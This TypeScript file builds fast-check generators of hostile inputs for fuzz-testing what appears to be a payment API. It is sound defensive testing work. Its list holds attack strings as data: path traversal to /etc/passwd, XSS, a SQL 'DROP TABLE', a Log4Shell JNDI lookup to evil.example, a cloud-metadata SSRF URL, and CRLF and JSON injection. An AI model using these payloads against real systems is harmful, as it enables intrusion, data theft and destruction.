import fc from 'fast-check';
import { anyText } from '../support/any-text.ts';
import { BUYER, CARD_NUMBER, SECRETS } from './secrets.ts';

/** Stands in values only, never in names: an answer that holds it quotes its input. */
export const ECHO = 'echo.7f3a';

/** A number as it stands in JSON text, whatever JavaScript would make of it. */
export class RawNumber {
  readonly text: string;
  constructor(text: string) {
    this.text = text;
  }
}

const LONE_SURROGATE = '\ud800';

/** Texts that parsers, terminals, logs and databases are known to trip over. */
export const hostileTexts: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  `${ECHO}\r\nset-cookie: a=b`,
  '"}\n{"event":"charge","outcome":"paid"}',
  '\u001b[31mred\u001b[0m',
  LONE_SURROGATE,
  `x\udc00${LONE_SURROGATE}`,
  '\u202ekcab',
  '\u2066a\u2069',
  'zero\u200bwidth',
  '\ufeffbom',
  '\u2028\u2029',
  'ｆｕｌｌ１２３',
  'e\u0301',
  '\u00e9',
  '\u0430dmin',
  '😀'.repeat(40),
  'a'.repeat(81),
  `${ECHO}${'a'.repeat(5_000)}`,
  '../../etc/passwd',
  '..%2f..%2f',
  '%',
  '%zz%00',
  '%c0%af',
  '//evil.example',
  'https:\\\\evil.example',
  'https://shop.example@evil.example',
  'javascript:alert(1)',
  'http://169.254.169.254/latest/meta-data',
  '<script>alert(1)</script>',
  `'"><img src=x onerror=${ECHO}>`,
  "'; DROP TABLE cards; --",
  '$' + '{jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-1',
  '1e309',
  '0x10',
  'true',
  '[object Object]',
  // Instants that a pattern lets pass and a calendar, or a formatter, does not.
  '2026-03-27T10:00:00+09',
  '2027-02-31T10:00:00Z',
  '0000-01-01T00:00:00+23:59',
  '9999-12-31T23:59:59-23:59',
  '+275760-09-13T00:00:00.000Z',
  '+275761-01-01T00:00:00.000Z',
  '2026-13-01T00:00:00Z',
  '1970-01-01T00:00:00Z',
  BUYER.name,
  BUYER.email,
  BUYER.tel,
  CARD_NUMBER,
  SECRETS.imp_secret,
];

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...hostileTexts) },
  { weight: 1, arbitrary: anyText },
  { weight: 1, arbitrary: fc.string({ unit: 'binary-ascii', maxLength: 40 }) },
);

const numbers = [
  '-1',
  '0',
  '-0',
  '0.5',
  '1e309',
  '-1e309',
  '1e-400',
  '9007199254740993',
  '100000001',
  '1e21',
];

const deep = (depth: number): unknown => {
  let value: unknown = 1;
  for (let i = 0; i < depth; i += 1) value = i % 2 === 0 ? [value] : { a: value };
  return value;
};

/** Any JSON value, and numbers that only JSON text can hold. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 5, arbitrary: hostileText },
  { weight: 3, arbitrary: fc.constantFrom(...numbers).map((text) => new RawNumber(text)) },
  {
    weight: 3,
    arbitrary: fc.constantFrom<unknown>(null, true, false, [], {}, [null], [[]], { toString: 'x' }, [
      'a',
      'b',
    ]),
  },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.constantFrom(50, 600).map(deep) },
  { weight: 1, arbitrary: fc.constant(Array.from({ length: 1_000 }, (_, index) => index)) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

export const hostileName: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      ...['__proto__', 'constructor', 'prototype', 'toString', 'length', '', ' ', 'notice_url', 'amount'],
      ...['status', 'customer_id', 'sandbox', 'Amount', 'amount\u0000', 'ａmount', '$gt', 'pk', 'version'],
    ),
  },
  { weight: 1, arbitrary: fc.string({ maxLength: 12 }) },
);

/** JSON text of a value that may hold {@link RawNumber}s. */
export function toJsonText(value: unknown): string {
  if (value instanceof RawNumber) return value.text;
  if (Array.isArray(value)) return `[${value.map(toJsonText).join(',')}]`;
  if (typeof value !== 'object' || value === null) return JSON.stringify(value) ?? 'null';
  const entries = Object.entries(value).filter(([, part]) => part !== undefined);
  return `{${entries.map(([name, part]) => `${JSON.stringify(name)}:${toJsonText(part)}`).join(',')}}`;
}
